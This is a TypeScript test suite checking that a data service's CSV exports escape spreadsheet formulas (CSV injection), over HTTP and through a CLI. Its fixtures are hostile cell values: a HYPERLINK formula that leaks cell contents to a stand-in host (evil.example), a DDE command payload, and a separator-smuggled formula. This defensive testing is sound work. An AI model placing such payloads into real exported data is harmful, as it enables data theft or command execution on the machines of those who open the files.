import { execFileSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { Client } from 'pg';
import { drey } from './support/drey-cli';
import { TestServer, startServer } from './support/server';
import { TestDatabase, TempDir, createTestDatabase, tempDir } from './support/services';

/**
 * Issue 37: CSV exports that a spreadsheet cannot turn against the person who opens them (OWASP, "CSV
 * Injection"). The data is an attacker's: text stored in a Postgres warehouse that the project copies (a
 * source, exported by DuckDB's COPY, and a dbview, read live and encoded from its rows), over HTTP in both
 * layouts and through `drey run`.
 */

/** What the attacker stored, one row each, beside negative numbers in every numeric type. */
const STORED: (string | null)[] = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '  =1+1',
  '\n@SUM(A1)',
  // A separator then a formula: a spreadsheet whose separator is `;` (most of Europe) starts a cell there.
  "Acme;=cmd|' /C calc'!A0",
  // Quotes and a comma: one field, quoted, quotes doubled.
  'say "hi", =1+1',
  'plain',
  '',
  null,
  // Text that reads as a negative number, in a text column: text.
  '-5',
];

/** The cells a spreadsheet user gets by default: a quote mark before each formula, nothing else changed. */
const ESCAPED = STORED.map((text) =>
  text !== null && /^[ \n]*[-=+@\t\r]/.test(text) ? `'${text}` : text,
);

const FILES: Record<string, string> = {
  'project.yml': [
    'name: hostile',
    'major_version: 1',
    'connections:',
    '  - { name: warehouse, kind: postgres, url_env: WAREHOUSE_URL }',
    'parameters: []',
    'datasets:',
    '  - { name: notes, model: notes, scope: public }',
    '  - { name: other, model: notes, scope: public }',
    '  - { name: live, model: live_notes, scope: public }',
  ].join('\n'),
  'models/pg_notes.yml': 'kind: source\nconnection: warehouse\ntable: public.notes\n',
  'models/notes.yml': 'kind: runtime\n',
  // Read on the warehouse at each request: its CSV is encoded from rows, not written by DuckDB's COPY. (Its
  // check at build time once declared a cursor over an EXPLAIN, which Postgres refuses: no dbview built.)
  'models/live_notes.yml': 'kind: dbview\nconnection: warehouse\n',
  'models/live_notes.sql': 'SELECT id, note, amount, delta, ratio FROM public.notes ORDER BY id',
  'models/notes.sql':
    "SELECT id, note, amount, delta, ratio FROM {{ ref('pg_notes') }} ORDER BY id",
};

/** Rows of a CSV as Python's csv module reads them (RFC 4180, as spreadsheets read quotes). */
function parseCsv(text: string): string[][] {
  const script = [
    'import csv, io, json, sys',
    "print(json.dumps(list(csv.reader(io.StringIO(sys.stdin.read(), newline='')))))",
  ].join('\n');
  return JSON.parse(
    execFileSync('/usr/bin/python3', ['-c', script], { input: text, encoding: 'utf8' }),
  ) as string[][];
}

/** The cells of one column of a CSV (header dropped); an empty field is null, as both exports write NULL. */
function column(rows: string[][], name: string): string[] {
  const index = rows[0].indexOf(name);
  return rows.slice(1).map((row) => row[index]);
}

describe('CSV exports a spreadsheet cannot turn against its reader (issue 37)', () => {
  let warehouse: TestDatabase;
  let project: TempDir;
  let t: TestServer;
  const P = '/api/service-v0/project/hostile/v1';
  const L = '/service-v0/hostile/v1';

  beforeAll(async () => {
    warehouse = await createTestDatabase();
    const client = new Client({ connectionString: warehouse.url });
    await client.connect();
    try {
      await client.query(
        'CREATE TABLE notes (id int PRIMARY KEY, note text, amount numeric(10,2), delta int, ratio float8)',
      );
      for (const [index, note] of STORED.entries()) {
        // Negative numbers on every row: none of them is text, so none may change.
        await client.query('INSERT INTO notes VALUES ($1, $2, $3, $4, $5)', [
          index + 1,
          note,
          -(index + 0.5),
          -(index + 1),
          -(index + 1) / 4,
        ]);
      }
    } finally {
      await client.end();
    }
    project = tempDir('drey-hostile-');
    for (const [file, text] of Object.entries(FILES)) {
      mkdirSync(dirname(join(project.path, file)), { recursive: true });
      writeFileSync(join(project.path, file), text);
    }
    t = await startServer({ PROJECT_DIR: project.path, WAREHOUSE_URL: warehouse.url });
  });
  afterAll(async () => {
    await t?.close();
    await warehouse?.drop();
    project?.remove();
  });

  const get = (path: string, headers: Record<string, string> = {}) =>
    fetch(`${t.url}${path}`, { headers });
  const post = (path: string, body: unknown) =>
    fetch(`${t.url}${path}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });

  it('writes each formula behind a quote mark and every text cell quoted, by default, in every row', async () => {
    for (const dataset of ['notes', 'other', 'live']) {
      const response = await get(`${P}/datasets/${dataset}/results?x_format=csv`);
      expect({ dataset, status: response.status }).toEqual({ dataset, status: 200 });
      expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      const text = await response.text();
      const rows = parseCsv(text);
      expect(rows[0]).toEqual(['id', 'note', 'amount', 'delta', 'ratio']);
      expect({ dataset, notes: column(rows, 'note') }).toEqual({
        dataset,
        // An empty text is quoted (""), NULL is an empty field: Python's reader sees both as ''.
        notes: ESCAPED.map((cell) => cell ?? ''),
      });
      // Every text cell quoted, so no `;` or tab inside one can start a cell; NULL is the one empty field.
      const lines = text.split('\r\n').slice(1, -1);
      expect(lines).toHaveLength(STORED.length);
      for (const [index, line] of lines.entries()) {
        const note = line.slice(line.indexOf(',') + 1);
        expect({
          dataset,
          index,
          quoted: STORED[index] === null ? !note.startsWith(',') : note.startsWith('"'),
        }).toEqual({ dataset, index, quoted: STORED[index] !== null });
      }
      // Nothing a spreadsheet would run is left at the start of a cell.
      const cells = rows.slice(1).flat();
      expect(cells.filter((cell) => /^[ \n]*[-=+@\t\r]/.test(cell) && !/^-\d/.test(cell))).toEqual(
        [],
      );
      // Negative numbers in numeric columns are numbers: written bare, read back as they were stored.
      expect(column(rows, 'delta')).toEqual(STORED.map((_, index) => String(-(index + 1))));
      // A numeric(10,2) at its scale, from the warehouse's rows as from DuckDB's COPY: -0.50, not -0.5.
      expect({ dataset, amounts: column(rows, 'amount') }).toEqual({
        dataset,
        amounts: STORED.map((_, index) => (-(index + 0.5)).toFixed(2)),
      });
      expect(column(rows, 'ratio').map(Number)).toEqual(STORED.map((_, index) => -(index + 1) / 4));
      expect(lines[0]).toMatch(
        /^1,"'=HYPERLINK\(""http:\/\/evil\.example\/\?leak=""&A1,""Click me""\)",-0\.50,-1,-0\.25$/,
      );
    }
  });

  it('gives programs the values as stored with x_csv_formulas=raw, in both layouts, on GET and POST', async () => {
    const raw = [
      await get(`${P}/datasets/notes/results?x_format=csv&x_csv_formulas=raw`),
      await get(`${P}/datasets/other/results?x_csv_formulas=raw`, { accept: 'text/csv' }),
      await post(`${P}/datasets/notes/results`, { x_format: 'csv', x_csv_formulas: 'raw' }),
      await get(`${L}/dataset/notes?x_format=csv&x_csv_formulas=raw`),
      // The legacy layout reads hyphens for underscores, its built-ins included.
      await get(`${L}/dataset/other?x-csv-formulas=raw`, { accept: 'text/csv' }),
    ];
    for (const [index, response] of raw.entries()) {
      expect({ index, status: response.status }).toEqual({ index, status: 200 });
      const rows = parseCsv(await response.text());
      expect({ index, notes: column(rows, 'note') }).toEqual({
        index,
        notes: STORED.map((cell) => cell ?? ''),
      });
      expect(column(rows, 'delta')).toEqual(STORED.map((_, row) => String(-(row + 1))));
    }
    // The legacy layout escapes by default too, and `escaped` may be named.
    for (const path of [
      `${L}/dataset/notes?x_format=csv`,
      `${P}/datasets/other/results?x_format=csv&x_csv_formulas=escaped`,
    ]) {
      const rows = parseCsv(await (await get(path)).text());
      expect({ path, notes: column(rows, 'note') }).toEqual({
        path,
        notes: ESCAPED.map((cell) => cell ?? ''),
      });
    }
  });

  it('leaves every other format as stored', async () => {
    for (const dataset of ['notes', 'other']) {
      const ndjson = await get(`${P}/datasets/${dataset}/results?x_format=ndjson`);
      const notes = (await ndjson.text())
        .trimEnd()
        .split('\n')
        .map((line) => (JSON.parse(line) as { note: string | null }).note);
      expect({ dataset, notes }).toEqual({ dataset, notes: STORED });
      const json = await get(`${P}/datasets/${dataset}/results`);
      const body = (await json.json()) as { data: { note: string | null }[] };
      expect(body.data.map((row) => row.note)).toEqual(STORED);
    }
  });

  it('refuses a wrong x_csv_formulas with a 400 that names the values, whatever the format and layout', async () => {
    const wrong = [
      get(`${P}/datasets/notes/results?x_format=csv&x_csv_formulas=none`),
      get(`${P}/datasets/notes/results?x_format=csv&x_csv_formulas=RAW`),
      get(`${P}/datasets/notes/results?x_format=csv&x_csv_formulas=raw&x_csv_formulas=raw`),
      get(`${P}/datasets/other/results?x_csv_formulas=%3D1%2B1`, { accept: 'text/csv' }),
      get(`${P}/datasets/notes/results?x_csv_formulas=nope`),
      get(`${P}/datasets/notes/results?x_format=parquet&x_csv_formulas=nope`),
      post(`${P}/datasets/notes/results`, { x_format: 'csv', x_csv_formulas: true }),
      post(`${P}/datasets/notes/results`, { x_format: 'csv', x_csv_formulas: ['raw', 'escaped'] }),
      get(`${L}/dataset/notes?x_format=csv&x_csv_formulas=none`),
    ];
    for (const [index, response] of (await Promise.all(wrong)).entries()) {
      const body = (await response.json()) as { message?: string; error?: string };
      expect({ index, status: response.status }).toEqual({ index, status: 400 });
      expect(JSON.stringify(body)).toContain('x_csv_formulas must be escaped or raw');
    }
    // An empty value is the default, as for the other built-ins.
    const empty = await get(`${P}/datasets/notes/results?x_format=csv&x_csv_formulas=`);
    expect(column(parseCsv(await empty.text()), 'note')).toEqual(ESCAPED.map((cell) => cell ?? ''));
  });

  it('declares x_csv_formulas in the OpenAPI document, on the generic and the item paths of both layouts', async () => {
    const document = (await (await get('/docs-json')).json()) as {
      paths: Record<string, { get?: { parameters?: { name: string; schema?: unknown }[] } }>;
    };
    const declared = Object.entries(document.paths)
      .filter(([path]) => /\/datasets?\/[^/]+(\/results)?$/.test(path))
      .map(([path, item]) => [
        path,
        item.get?.parameters?.find((parameter) => parameter.name === 'x_csv_formulas')?.schema,
      ]);
    expect(declared.length).toBeGreaterThanOrEqual(4);
    for (const [path, schema] of declared) {
      expect({ path, schema }).toEqual({
        path,
        schema: expect.objectContaining({
          type: 'string',
          enum: ['escaped', 'raw'],
          default: 'escaped',
        }),
      });
    }
  });

  describe('drey run --format csv, as a process', () => {
    const env = () => ({
      PROJECT_DIR: project.path,
      DATA_DIR: t.env.DATA_DIR,
      WAREHOUSE_URL: warehouse.url,
    });

    it('escapes as the service does, and --csv-formulas raw prints the values as stored', async () => {
      for (const dataset of ['notes', 'other']) {
        const escaped = await drey(['run', dataset, '--format', 'csv'], env());
        expect({ dataset, code: escaped.code, stderr: escaped.stderr }).toEqual({
          dataset,
          code: 0,
          stderr: '',
        });
        const rows = parseCsv(escaped.stdout);
        expect({ dataset, notes: column(rows, 'note') }).toEqual({
          dataset,
          notes: ESCAPED.map((cell) => cell ?? ''),
        });
        expect(column(rows, 'delta')).toEqual(STORED.map((_, row) => String(-(row + 1))));
        expect(column(rows, 'amount').map(Number)).toEqual(STORED.map((_, row) => -(row + 0.5)));

        const raw = await drey(['run', dataset, '--format', 'csv', '--csv-formulas', 'raw'], env());
        expect(raw.code).toBe(0);
        expect(column(parseCsv(raw.stdout), 'note')).toEqual(STORED.map((cell) => cell ?? ''));
      }
    });

    it('refuses a wrong --csv-formulas as a usage error', async () => {
      const wrong = await drey(
        ['run', 'notes', '--format', 'csv', '--csv-formulas', 'none'],
        env(),
      );
      expect(wrong).toMatchObject({ code: 2, stdout: '' });
      expect(wrong.stderr).toMatch(/^--csv-formulas must be escaped or raw, not "none"\n/);
    });
  });
});
